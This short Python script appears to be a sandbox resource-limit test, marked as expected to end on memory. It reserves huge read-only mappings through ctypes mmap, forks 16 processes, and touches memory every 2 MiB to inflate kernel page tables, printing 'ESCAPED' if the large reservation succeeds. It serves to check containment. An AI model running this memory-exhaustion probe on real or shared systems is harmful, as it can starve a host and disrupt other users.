# ends: memory
# ruff: noqa
# Tables of pages that hold nothing, which are no process's pages.
import ctypes
import os
import time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
if libc.mmap(None, 2**44, 1, 0x4022, -1, 0) != 2**64 - 1:
    print("ESCAPED: 16 TiB of addresses")
for _ in range(16):
    if os.fork() == 0:
        break
start = libc.mmap(None, 2**34, 1, 0x4022, -1, 0)
for offset in range(0, 2**34, 2**21):
    ctypes.c_char.from_address(start + offset).value
time.sleep(3600)
